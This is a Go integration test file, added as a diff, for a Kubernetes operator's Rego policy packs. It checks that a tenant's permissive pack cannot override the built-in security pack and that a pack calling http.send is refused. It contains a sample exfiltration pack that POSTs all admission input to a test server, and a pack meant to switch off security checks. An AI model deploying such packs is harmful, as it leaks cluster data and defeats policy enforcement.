@@ -1,0 +1,172 @@
+package integration
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/prometheus/client_golang/prometheus/testutil"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	pailv1 "github.com/pail-dev/pail/api/v1alpha1"
+	"github.com/pail-dev/pail/core/controllers/policypack"
+)
+
+// operatorNamespace is the namespace the suite's operator loads packs from,
+// created on first use.
+func operatorNamespace(t *testing.T) string {
+	t.Helper()
+	err := suite.k8s.Create(context.Background(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: pluginNamespace}})
+	if err != nil && !apierrors.IsAlreadyExists(err) {
+		require.NoError(t, err)
+	}
+	return pluginNamespace
+}
+
+// packConfigMap is a policy-pack ConfigMap of one module; it is deleted
+// when the test ends.
+func packConfigMap(t *testing.T, ns, name, pack, src string, annotations map[string]string) *corev1.ConfigMap {
+	t.Helper()
+	cm := &corev1.ConfigMap{
+		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: map[string]string{policypack.Label: pack}, Annotations: annotations},
+		Data:       map[string]string{pack + ".rego": src},
+	}
+	require.NoError(t, suite.k8s.Create(context.Background(), cm))
+	t.Cleanup(func() { _ = suite.k8s.Delete(context.Background(), cm) })
+	return cm
+}
+
+// safeName makes a namespace name fit in a Rego package name.
+func safeName(ns string) string { return strings.ReplaceAll(ns, "-", "_") }
+
+// A pack that would let every document through, under the built-in
+// security pack's name.
+const permissiveSecurity = "package pail.security\n\ndeny contains msg if {\n\tfalse\n\tmsg := \"never\"\n}\n"
+
+// deniedBySecurity asserts that the built-in security pack still refuses
+// public write at admission.
+func deniedBySecurity(t *testing.T, ns, bucket, bucketName string) {
+	t.Helper()
+	_, err := dryRunCreate(t, newBucketPolicy(ns, "public-write", bucket, publicWritePolicy(bucketName)))
+	require.Error(t, err, "the built-in security pack refuses public write")
+	assert.Contains(t, err.Error(), "[security] statement 1 (\"PublicWrite\")")
+	assert.Contains(t, err.Error(), "public write")
+}
+
+// TestTenantPackNamedLikeABuiltinIsIgnored: a tenant ships a permissive
+// ConfigMap named like the built-in security pack, even annotated to
+// replace it. It is ignored, an event on it says where packs must live,
+// and the built-in still denies what it denied.
+func TestTenantPackNamedLikeABuiltinIsIgnored(t *testing.T) {
+	ns := namespace(t)
+	p := minioProvider(t, ns, "minio")
+	b := readyPublicBucket(t, ns, p.Name, "tenant")
+	deniedBySecurity(t, ns, b.Name, b.Spec.BucketName)
+
+	cm := packConfigMap(t, ns, "security", "security", permissiveSecurity, map[string]string{policypack.ReplaceAnnotation: "true"})
+	assertEvent(t, ns, cm.Name, policypack.ReasonIgnored, "packs are read only from the operator's namespace "+pluginNamespace)
+	// A tenant's brand-new pack is ignored the same way.
+	other := packConfigMap(t, ns, "tenant-pack", "tenantpack_"+safeName(ns), "package pail.tenantpack_"+safeName(ns)+"\n\ndeny contains \"x\" if { true }\n", nil)
+	assertEvent(t, ns, other.Name, policypack.ReasonIgnored, pluginNamespace)
+
+	deniedBySecurity(t, ns, b.Name, b.Spec.BucketName)
+	assert.NotContains(t, suite.op.Policy.Packs(), "tenantpack_"+safeName(ns))
+	bp := newBucketPolicy(ns, "public-write", b.Name, publicWritePolicy(b.Spec.BucketName))
+	bp.Spec.EnforcementMode = pailv1.EnforcementWarn // past the webhook, to the controller
+	require.NoError(t, suite.k8s.Create(context.Background(), bp))
+	got := waitPolicy(t, client.ObjectKeyFromObject(bp), pailv1.ConditionPolicyValid, metav1.ConditionTrue, pailv1.ReasonPolicyWarnings)
+	assert.Contains(t, fmt.Sprint(got.Status.Warnings), "[security] statement 1 (\"PublicWrite\")", "the controller judges with the built-in too")
+}
+
+// TestPackCallingHTTPSendIsRefused: a pack in the operator's namespace
+// that calls http.send is refused with an event and the error metric,
+// naming http.send; nothing reaches the server it aims at; the other packs
+// keep evaluating.
+func TestPackCallingHTTPSendIsRefused(t *testing.T) {
+	var requests atomic.Int64
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		requests.Add(1)
+		w.WriteHeader(http.StatusOK)
+	}))
+	defer srv.Close()
+	ns := namespace(t)
+	opNS := operatorNamespace(t)
+	p := minioProvider(t, ns, "minio")
+	b := readyPublicBucket(t, ns, p.Name, "exfil")
+
+	pack := "exfil_" + safeName(ns)
+	src := fmt.Sprintf(`package pail.%s
+
+deny contains msg if {
+	resp := http.send({"method": "POST", "url": %q, "body": input})
+	resp.status_code == 200
+	msg := "sent"
+}
+`, pack, srv.URL)
+	errsBefore := testutil.ToFloat64(suite.op.Metrics.PolicyPackErrors.WithLabelValues(pack))
+	cm := packConfigMap(t, opNS, "exfil-"+ns, pack, src, nil)
+	note := assertEvent(t, opNS, cm.Name, policypack.ReasonRefused, "http.send")
+	assert.Contains(t, note, "the other packs keep working")
+	assert.Contains(t, note, "calls a builtin that policy packs may not use")
+	assert.Greater(t, testutil.ToFloat64(suite.op.Metrics.PolicyPackErrors.WithLabelValues(pack)), errsBefore)
+	assert.NotContains(t, suite.op.Policy.Packs(), pack)
+
+	// Selecting it says why it cannot run; the other packs still judge.
+	bp := newBucketPolicy(ns, "asks-exfil", b.Name, goodPolicy(b.Spec.BucketName))
+	bp.Spec.Packs = []string{pack}
+	require.NoError(t, suite.k8s.Create(context.Background(), bp))
+	got := waitPolicy(t, client.ObjectKeyFromObject(bp), pailv1.ConditionPolicyValid, metav1.ConditionFalse, pailv1.ReasonPacksUnavailable)
+	assert.Contains(t, condition(got.Status.Conditions, pailv1.ConditionPolicyValid).Message, "http.send")
+	deniedBySecurity(t, ns, b.Name, b.Spec.BucketName)
+	require.NoError(t, suite.k8s.Delete(context.Background(), bp))
+	waitGone(t, &pailv1.BucketPolicy{ObjectMeta: bp.ObjectMeta}, 30*time.Second)
+	good := newBucketPolicy(ns, "good", b.Name, goodPolicy(b.Spec.BucketName))
+	require.NoError(t, suite.k8s.Create(context.Background(), good))
+	waitPolicy(t, client.ObjectKeyFromObject(good), pailv1.ConditionReady, metav1.ConditionTrue, "")
+
+	assert.Zero(t, requests.Load(), "no request reached the server the pack aimed at")
+}
+
+// TestReplacingABuiltinIsOnPurposeAndUndone: in the operator's namespace, a
+// pack named like a built-in replaces it only with the annotation; deleting
+// the replacing ConfigMap brings the built-in back at once.
+func TestReplacingABuiltinIsOnPurposeAndUndone(t *testing.T) {
+	ns := namespace(t)
+	opNS := operatorNamespace(t)
+	p := minioProvider(t, ns, "minio")
+	b := readyPublicBucket(t, ns, p.Name, "replaced")
+
+	// Without the annotation: refused, the built-in stays.
+	plain := packConfigMap(t, opNS, "security-plain", "security", permissiveSecurity, nil)
+	assertEvent(t, opNS, plain.Name, policypack.ReasonRefused, policypack.ReplaceAnnotation)
+	deniedBySecurity(t, ns, b.Name, b.Spec.BucketName)
+	require.NoError(t, suite.k8s.Delete(context.Background(), plain))
+
+	// With it: the replacement judges (here, stricter than the built-in).
+	const strict = "package pail.security\n\ndeny contains \"the replaced security pack denies every document\" if { true }\n"
+	cm := packConfigMap(t, opNS, "security-replaced", "security", strict, map[string]string{policypack.ReplaceAnnotation: "true"})
+	assertEvent(t, opNS, cm.Name, policypack.ReasonLoaded, "replacing the built-in pack")
+	waitFor(t, 20*time.Second, "the replacement judges at admission", func() (bool, string) {
+		_, err := dryRunCreate(t, newBucketPolicy(ns, "good", b.Name, goodPolicy(b.Spec.BucketName)))
+		return err != nil && strings.Contains(err.Error(), "[security] the replaced security pack denies every document"), fmt.Sprint(err)
+	})
+
+	// Deleted: the built-in is back, without a restart.
+	require.NoError(t, suite.k8s.Delete(context.Background(), cm))
+	waitFor(t, 20*time.Second, "the built-in security pack is back", func() (bool, string) {
+		_, err := dryRunCreate(t, newBucketPolicy(ns, "good", b.Name, goodPolicy(b.Spec.BucketName)))
+		return err == nil, fmt.Sprint(err)
+	})
+	deniedBySecurity(t, ns, b.Name, b.Spec.BucketName)
+	assert.Empty(t, suite.op.Policy.Broken())
+}
